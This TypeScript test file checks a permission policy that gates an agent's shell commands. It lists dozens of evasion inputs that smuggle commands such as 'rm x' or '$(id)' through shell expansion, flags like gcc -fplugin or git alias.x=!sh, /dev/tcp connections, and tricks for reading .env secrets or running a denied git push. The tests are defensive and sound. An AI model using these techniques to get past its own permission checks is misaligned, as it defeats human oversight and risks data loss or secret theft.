import { verifies } from '@kernel/testing';
import { describe, expect, it } from 'vitest';
import { permissions } from '../../src/permissions/index.ts';

const PROGRAMS =
  'git ls cat grep find node python3 python3.12 perl php tar sort echo make go gcc curl pnpm npm vitest env printf test cd tsc';
const policy = permissions([
  ...PROGRAMS.split(' ').map((name) => ({ allow: `run_command(${name} *)` })),
  { allow: 'run_command(python3 -m pytest -q)' },
  { allow: 'run_command(node x.js)' },
  { allow: 'run_command(make -j4 test)' },
  { allow: 'write_file(out/**)' },
]);
const shell = (script: string, name = 'bash'): string[] => [name, '-c', script];
const decide = (command: readonly string[], cwd?: string) =>
  policy.decide('run_command', { command, ...(cwd === undefined ? {} : { cwd }) }).verdict;

/** What a shell makes of a script that looks like another one. */
const SCRIPTS: readonly (readonly string[])[] = [
  // A line continuation is gone before anything is read.
  shell('echo "$\\\n(rm x)"'),
  shell("find . $\\\n'\\x2ddelete'"),
  shell('(\\\n( ls ))'),
  // Arithmetic reads single quotes as ordinary characters, and values as arithmetic.
  shell("((ls = '$(rm x)'))"),
  shell("echo $[ '$(rm x)' ]"),
  shell("CI='a[$(rm x)]'; echo ${TERM:CI}"),
  shell("CI='a[$(rm x)]'; echo ${a[CI]}"),
  shell("CI='$(rm x)'; echo ${CI@P}"),
  shell("CI='a[$(rm x)]'; echo ${!CI}"),
  shell('echo ${ rm x; }'),
  shell('echo ${| rm x; }'),
  // A comment ends with the backtick.
  shell('echo `ls #` ; rm x\necho ` y'),
  // Quotes make a program of an assignment.
  shell("'CI=./x' ls"),
  shell('C""I=./x ls'),
  // A connection.
  shell('cat < /dev/tcp/127.0.0.1/80'),
  shell('CI=tcp; cat < /dev/$CI/127.0.0.1/80'),
  // `>&-` is whole.
  shell('find . >&--delete'),
  shell('echo x >& "out/.\\\\./a"'),
  // A plain sh ends the command at `&`, and reads the rest as the next one.
  shell('ls &>/dev/null rm x', 'sh'),
  shell('ls 22>&1 x'),
  // Other languages.
  shell('ls', 'zsh'),
  shell('ls', 'ksh'),
  ['bash', '-c', '--', 'rm x'],
  ['bash', '-c', '+e', 'rm x'],
  ['bash', '-ce', 'rm x'],
  // Another program of that name.
  ['./bash', '-c', 'ls'],
  ['tools/env', 'ls'],
  ['/srv/timeout', '5', 'ls'],
  ['Bash', '-c', 'ls'],
  // Code on the standard input.
  shell('echo x | node'),
  shell('echo x | python3 -u -'),
  shell('cat <<< x | perl -w'),
  ['node'],
  ['node', '/dev/stdin'],
  ['node', '--title', 'x'],
  ['python3', '-W', 'ignore'],
  ['php', '-n'],
  // A word that becomes a subcommand.
  shell('git pu"$CI"'),
  shell('git pu*'),
  shell('make "a$CI"'),
  // A folder that is not the one that the rule means.
  shell('cd src && echo x > out/a'),
  shell('echo x > out/../../a'),
];

const ARGUMENTS: readonly (readonly string[])[] = [
  ['go', 'test', '--exec', 'sh'],
  ['go', 'test', '--toolexec=sh'],
  ['node', '--experimental_loader=./x', 'a.js'],
  ['gcc', '-B/tmp/x', 'a.c'],
  ['gcc', '-fplugin=./x.so', 'a.c'],
  ['gcc', '-Wl,--plugin=x', 'a.c'],
  ['gcc-13', '-wrapper', 'sh', 'a.c'],
  ['pnpm', '--config.script-shell=./x', 'test'],
  ['npm', 'test', '-C', '/x'],
  ['npm', 'init', 'x'],
  ['tar', '-cf', 'a', '-T', 'list'],
  ['tar', 'cfT', 'a', 'list'],
  ['tar', '-cf', 'a', '--files-from=list'],
  ['tar', '-xf', 'host:x'],
  ['make', 'a.b:=$(shell id)'],
  ['make', '-E', 'x'],
  ['php', '-d', 'auto_prepend_file=x', 'a.php'],
  ['python3.12', '-c', 'x'],
  ['perl', '-d:Foo', 'x'],
  ['curl', '-w', '%output{/x}', 'u'],
  ['curl', '--expand-output', 'x'],
  ['curl', '-H@x', 'u'],
  ['env', '-S', 'rm x'],
  ['printf', '-v', 'a[$(id)]', 'x'],
  ['git', 'merge-index', 'sh', 'x'],
  ['git', 'ls-remote', 'x'],
  ['git', '-c', 'alias.x=!sh', 'x'],
  ['vitest', '--config', 'x'],
  ['tsc', '--OutDir', '/x'],
];

/** Runs without a question, as it did. */
const HARMLESS: readonly (readonly string[])[] = [
  ['node', 'x.js'],
  ['python3', '-m', 'pytest', '-q'],
  ['make', '-j4', 'test'],
  ['/usr/bin/env', 'CI=1', 'ls'],
  shell('ls && \\\n  cat x'),
  shell('ls &>/dev/null'),
  shell('echo "cost: $" "a${CI:-none}"'),
  shell('find . -name "*.c" | sort -u > out/list'),
  shell('cd src && ls'),
];

describe('commands that are not what they look like', () => {
  it.each(SCRIPTS.map((command) => [JSON.stringify(command), command] as const))('%s is asked about', (_, command) => {
    verifies('toolbox.permissions.commands');
    expect(decide(command)).toBe('ask');
  });

  it.each(ARGUMENTS.map((command) => [JSON.stringify(command), command] as const))(
    '%s is asked about',
    (_, command) => {
      expect(decide(command)).toBe('ask');
    },
  );

  it.each(HARMLESS.map((command) => [JSON.stringify(command), command] as const))('%s is covered', (_, command) => {
    expect(decide(command)).toBe('allow');
  });

  it('paths are those below the folder that the command starts in', () => {
    expect(decide(shell('echo x > out/a'))).toBe('allow');
    expect(decide(shell('echo x > out/a'), 'src')).toBe('ask');
    expect(decide(shell('echo x > ../out/a'), 'src')).toBe('allow');
    const closed = permissions([{ allow: 'run_command' }, { deny: '*(secret/**)' }]);
    expect(closed.decide('run_command', { command: ['cat', 'key'], cwd: 'secret' }).verdict).toBe('deny');
    expect(closed.decide('run_command', { command: ['cat', '../secret/key'], cwd: 'src' }).verdict).toBe('deny');
  });

  it('a rule that lets every file of the workspace be written says nothing of those outside', () => {
    for (const rule of ['write_file', 'write_file(**)', 'write_file(**/*.ts)']) {
      const open = permissions([{ allow: 'run_command(echo *)' }, { allow: rule }], { root: '/srv' });
      const verdictOf = (file: string) => open.decide('run_command', { command: shell(`echo x > ${file}`) }).verdict;
      expect([rule, ...['a.ts', '/srv/a.ts', '../a.ts', '/etc/a'].map(verdictOf)]).toEqual([
        rule,
        'allow',
        'allow',
        'ask',
        'ask',
      ]);
    }
    const named = permissions([{ allow: 'run_command(echo *)' }, { allow: 'write_file(/logs/**)' }], { root: '/srv' });
    expect(named.decide('run_command', { command: shell('echo x > /logs/a') }).verdict).toBe('allow');
  });

  const open = permissions([{ allow: '*' }, { deny: 'run_command(git push *)' }, { deny: '*(**/.env)' }]);
  it.each(
    [
      ['bash', '-c', '--', 'git push'],
      ['bash', '-ce', 'git push'],
      ['zsh', '-c', 'git push'],
      ['fish', '-c', 'git push'],
      ['env', '-S', 'git push'],
      ['sudo', 'sh', '-c', 'git push'],
      ['su', '-c', "g''it push"],
      ['ssh', 'host', 'git push'],
      ['timeout', '--other', '5', 'sh', '-c', 'git push'],
      ['python3', '-c', 'os.system("git push")'],
      ['awk', 'BEGIN{system("git push")}'],
      ['/usr/lib/git-core/git-push', 'origin'],
      ['grep', '-f.env', 'x'],
      ['grep', '-rf.env', 'x'],
      ['curl', '-F', 'x=<.env', 'u'],
      ['curl', '-F', 'x=@.env;type=text/plain', 'u'],
      ['curl', 'file:///srv/%2eenv'],
      ['sed', 'r .env', 'x'],
      ['node', '-e', 'read(".env")'],
      ['cat', '.e\u200bnv'],
    ].map((command) => [JSON.stringify(command), command] as const),
  )('%s is denied', (_, command) => {
    expect(open.decide('run_command', { command }).verdict).toBe('deny');
  });

  it('what a message of a commit says is not taken for what it does', () => {
    for (const command of [
      ['git', 'commit', '-m', 'never git push; read .env'],
      ['git', 'commit', '-am', 'never git push; read .env'],
      ['git', 'tag', '--message=no git push', 'v1'],
    ])
      expect(open.decide('run_command', { command }).verdict).toBe('allow');
    expect(open.decide('run_command', { command: ['git', 'bisect', 'run', 'sh', '-c', 'git push'] }).verdict).toBe(
      'deny',
    );
  });

  it('what an alias of git runs is asked about where something is denied', () => {
    expect(open.decide('run_command', { command: ['git', '-c', 'alias.x=push', 'x'] }).verdict).toBe('ask');
    expect(open.decide('run_command', { command: ['git', 'log', '-1'] }).verdict).toBe('allow');
  });
});
